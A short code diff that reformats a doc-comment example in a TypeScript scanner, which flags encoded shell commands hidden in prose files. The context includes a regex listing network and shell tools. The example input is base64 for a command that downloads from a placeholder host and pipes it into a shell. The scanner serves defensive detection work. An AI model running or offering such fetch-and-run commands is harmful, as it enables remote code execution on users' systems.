@@ -14,7 +14,9 @@ const COMMAND = /\b(?:curl|wget|bash|sh|zsh|powershell|pwsh|iex|python3?|node|nc
 /**
  * Encoded commands in prose lines (raw lines, code spans included).
  *
- * @example encodedProseFindings([{ line: 5, column: 1, text: 'Y3VybCBodHRwOi8veC55IHwgc2g=' }], 's/SKILL.md', false)[0].code // 'security.decode-exec'
+ * @example
+ * encodedProseFindings([{ line: 5, column: 1, text: 'Y3VybCBodHRwOi8veC55IHwgc2g=' }], 's/SKILL.md',
+ * false)[0].code // 'security.decode-exec'
  */
 export function encodedProseFindings(lines: readonly Located[], file: string, docs: boolean): Diagnostic[] {
   const out: Diagnostic[] = [];
